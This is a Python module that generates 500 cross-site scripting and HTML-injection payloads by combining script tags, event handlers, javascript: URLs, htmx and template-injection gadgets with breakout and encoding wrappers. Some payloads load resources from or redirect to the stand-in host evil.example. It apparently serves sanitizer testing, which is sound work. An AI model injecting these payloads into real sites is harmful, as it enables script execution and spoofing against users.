"""Five hundred ways to make a page run something, or look like something else."""

from __future__ import annotations

import itertools

RUN = "window.ran=1"
CORES = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>top.{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<math><mi xlink:href=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button>",
    f"<style>*{{background:url(javascript:{RUN})}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<div hx-get=/desk/ hx-trigger=load hx-on::load={RUN}>",
    f"<b hx-on:click='{RUN}'>x</b>",
    f"javascript:{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    "[x](javascript:alert(1))",
)
AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "<!--{}-->",
    "-->{}",
    "]]>{}",
    "\u202e{}\u202c",
    "\u2066{}\u2069",
    "\u200b{}\ufeff",
    "{}\x00",
    "%3C{}%3E",
    "&lt;{}",
    "\\x3c{}",
    "\n\t{}\r\n",
    '" autofocus onfocus=window.ran=1 x="{}',
    "' onmouseover=window.ran=1 x='{}",
    "` {} `",
)
PAYLOADS = tuple(frame.format(core) for frame, core in itertools.product(AROUND, CORES))
assert len(PAYLOADS) == len(set(PAYLOADS)) == 500
